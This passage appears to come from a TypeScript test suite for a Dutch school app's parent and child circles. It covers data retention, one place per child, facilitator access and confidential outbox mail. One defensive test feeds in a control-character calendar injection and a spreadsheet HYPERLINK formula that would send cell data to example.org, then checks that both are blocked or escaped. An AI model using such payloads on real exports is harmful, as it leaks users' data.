    assert.ok(standing.length > 0, 'standing consents are never forgotten this way')
  })

  it('a place that ended is forgotten a year later, with its attendance marks', async () => {
    const id = idOf('circle:ouderkring')
    const db = t.deps.db
    const now = new Date()
    const ago = (days: number) => new Date(now.getTime() - days * 86_400_000)
    const people = [await freshParent(0), await freshParent(1), await freshParent(2)]
    const places = await db
      .insertInto('circle_members')
      .values([
        { circle_id: id, person_id: people[0]?.id ?? '', status: 'left', decided_at: ago(400) },
        { circle_id: id, person_id: people[1]?.id ?? '', status: 'declined', decided_at: ago(366) },
        { circle_id: id, person_id: people[2]?.id ?? '', status: 'left', decided_at: ago(300) },
      ])
      .returning(['id', 'person_id'])
      .execute()
    const meeting = await db
      .selectFrom('circle_meetings')
      .select('id')
      .where('circle_id', '=', id)
      .executeTakeFirstOrThrow()
    await db
      .insertInto('circle_attendance')
      .values({ meeting_id: meeting.id, member_id: places[0]?.id ?? '', present: true })
      .execute()
    const confirmed = () =>
      db
        .selectFrom('circle_members')
        .select('id')
        .where('circle_id', '=', id)
        .where('status', '=', 'confirmed')
        .execute()
    const before = (await confirmed()).length
    assert.ok(before > 0)

    assert.ok((await forgetEndedPlaces(db, now)) >= 2)
    const kept = await db
      .selectFrom('circle_members')
      .select('person_id')
      .where(
        'id',
        'in',
        places.map((x) => x.id),
      )
      .execute()
    assert.deepEqual(
      kept.map((k) => k.person_id),
      [people[2]?.id],
      'only the place that ended under a year ago is kept',
    )
    const marks = await db
      .selectFrom('circle_attendance')
      .select('present')
      .where('member_id', '=', places[0]?.id ?? '')
      .execute()
    assert.equal(marks.length, 0, 'its attendance marks went with it')
    assert.equal((await confirmed()).length, before, 'current members are untouched')
    await db
      .deleteFrom('circle_members')
      .where('person_id', '=', people[2]?.id ?? '')
      .execute()
  })

  it('one place per child, whichever guardian asks', async () => {
    const id = idOf('circle:kinderkring')
    const child = await t.deps.db
      .selectFrom('circle_members as cm')
      .innerJoin('guardianships as g', 'g.child_id', 'cm.child_id')
      .select(['cm.child_id', 'g.person_id'])
      .where('cm.circle_id', '=', id)
      .where('cm.status', '=', 'confirmed')
      .whereRef('g.person_id', '!=', 'cm.person_id')
      .executeTakeFirstOrThrow()
    const other = await t.deps.db
      .selectFrom('people')
      .select('email')
      .where('id', '=', child.person_id)
      .executeTakeFirstOrThrow()
    const c = await as(other.email)
    await c.post(`/circles/${id}/join`, { for: child.child_id as string, consent: 'yes' })
    const places = await t.deps.db
      .selectFrom('circle_members')
      .select('id')
      .where('circle_id', '=', id)
      .where('child_id', '=', child.child_id)
      .execute()
    assert.equal(places.length, 1)
  })

  it('no control characters in names, and no formulas in the CSV', async () => {
    const d = await personas('director')
    const fields = {
      kind: 'eigen',
      place: 'Lokaal 2',
      capacity: '8',
      languages: 'nl',
      firstDate: '2027-05-04',
      time: '15:00',
      duration: '60',
      recurrence: 'weekly',
      count: '2',
    }
    const bad = await d.post('/circles', {
      ...fields,
      name: 'Kring\rATTENDEE:mailto:x@example.org',
      kindLabel: 'Test',
    })
    assert.equal(bad.status, 400)
    const ok = await d.post('/circles', {
      ...fields,
      name: 'Formulekring',
      kindLabel: '=HYPERLINK("http://example.org/?"&A1,"x")',
    })
    assert.equal(ok.status, 303)
    const csv = (await d.get('/circles/overview.csv')).text
    assert.ok(csv.includes(`"'=HYPERLINK(`), 'the formula is escaped as text')
  })

  it('a facilitator who leaves the school loses the circle', async () => {
    const d = await personas('director')
    const teacher = await t.deps.db
      .selectFrom('people')
      .select(['id', 'email'])
      .where('id', '=', idOf('person:regenboog:Groep 3:teacher'))
      .executeTakeFirstOrThrow()
    await d.post('/circles/facilitators', {
      personId: teacher.id,
      training: 'Basistraining',
      trainedOn: '2026-02-01',
    })
    const id = idOf('circle:mantelzorgkring')
    await d.post(`/circles/${id}/settings`, {
      capacity: '8',
      status: 'open',
      facilitators: teacher.id,
    })
    const c = await as(teacher.email)
    assert.equal((await c.get(`/circles/${id}`)).status, 200)
    await t.deps.db.deleteFrom('memberships').where('person_id', '=', teacher.id).execute()
    const after = t.client()
    await after.signInByEmail(t.deps.db, teacher.email)
    assert.equal((await after.get(`/circles/${id}`)).status, 403)
  })

  it("an admin's outbox leaves out mail that tells who is in a circle", async () => {
    const school = idOf('school:regenboog')
    const all = await t.deps.db
      .selectFrom('outbox')
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .where('confidential', '=', true)
      .executeTakeFirstOrThrow()
    assert.ok(Number(all.n) > 0, 'circle mails were sent')
    const shown = await listOutbox(t.deps.db, school, 10_000)
    assert.equal(
      shown.some((m) => /kring|Nieuwe aanmelding|Morgen:/i.test(m.subject)),
      false,
    )
  })
})
